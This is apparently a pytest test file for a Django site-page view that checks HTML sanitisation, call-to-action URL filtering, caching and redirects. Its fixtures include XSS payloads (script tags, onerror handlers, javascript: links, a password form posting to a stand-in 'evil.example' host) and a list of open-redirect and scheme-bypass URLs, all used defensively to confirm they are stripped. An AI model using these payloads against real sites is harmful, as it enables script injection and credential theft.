import pytest

from knowledge_commons_profiles.pages.models import SitePage

pytestmark = pytest.mark.django_db

HOSTILE_BODY = """
<p onclick="steal()" style="position:fixed">Terms</p><script>steal()</script><style>*{display:none}</style>
<a href="javascript:steal()">first</a><a href="data:text/html,x">second</a>
<img src=x onerror=steal()><svg><script>steal()</script></svg><iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name=password></form><h2 id="main" class="site-header">Head</h2>
"""


def make_page(**fields):
    return SitePage.objects.create(**{"slug": "terms-of-service", "title": "Terms of service"} | fields)


def read(client, address="/pages/terms-of-service/"):
    return client.get(address).content.decode()


def test_the_words_of_the_staff_are_shown_to_anyone(client):
    make_page(
        body="<h2>Yours</h2><p>It is <em>yours</em>: see <a href='/members/'>all</a>.</p><blockquote>Q</blockquote>"
    )
    text = read(client)
    assert "<title>Terms of service · Knowledge Commons Profiles</title>" in text
    assert "<h1>Terms of service</h1>" in text
    assert "<h2>Yours</h2>" in text
    assert "<em>yours</em>" in text
    assert '<a href="/members/" rel="noopener">all</a>' in text
    assert "<blockquote>Q</blockquote>" in text


def test_a_hostile_body_is_inert(client, find_inline):
    make_page(body=HOSTILE_BODY, title="<script>steal()</script>")
    page = client.get("/pages/terms-of-service/")
    text = page.content.decode()
    assert find_inline(page) == []
    assert "steal" not in text.replace("&lt;script&gt;steal()&lt;/script&gt;", "")
    assert "evil.example" not in text
    assert "<iframe" not in text
    assert "password" not in text
    assert "<h2>Head</h2>" in text
    assert "<p>Terms</p>" in text


@pytest.mark.parametrize("url", ["https://example.org/join?a=1&b=2", "http://example.org", "/registration/start/", "/"])
def test_the_button_leads_to_the_web_or_to_a_path_of_ours(client, url):
    make_page(cta_text="Go on", cta_url=url)
    escaped = url.replace("&", "&amp;")
    assert f'<a class="button" href="{escaped}">Go on</a>' in read(client)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,x", "//evil.example/",
        "/\\evil.example/", "\\\\evil.example/", "/\t/evil.example/", "https:///evil.example", "http://[", "ftp://example.org/",
        "mailto:a@example.org", "members", "",
    ],
)  # fmt: skip
def test_a_button_to_anywhere_else_is_not_shown(client, url):
    make_page(cta_text="Go on", cta_url=url)
    assert "Go on" not in read(client)


def test_a_button_without_a_text_is_not_shown(client):
    make_page(cta_text=" ", cta_url="/members/")
    assert 'class="button"' not in read(client)


def test_an_unknown_page_is_not_found(client):
    assert client.get("/pages/no-such-page/").status_code == 404


def test_a_page_is_read_only(client):
    make_page()
    assert client.post("/pages/terms-of-service/").status_code == 405


def test_an_unchanged_page_is_not_sent_twice_and_a_changed_one_is(client):
    page = make_page(body="<p>Old</p>")
    etag = client.get("/pages/terms-of-service/").headers["ETag"]
    asked = {"If-None-Match": etag}
    assert client.get("/pages/terms-of-service/", headers=asked).status_code == 304
    page.body = "<p>New</p>"
    page.save()
    answer = client.get("/pages/terms-of-service/", headers=asked)
    assert answer.status_code == 200
    assert "<p>New</p>" in answer.content.decode()


def test_the_registration_page_has_one_address(client):
    answer = client.get("/pages/registration-start/")
    assert (answer.status_code, answer.headers["Location"]) == (301, "/registration/start/")
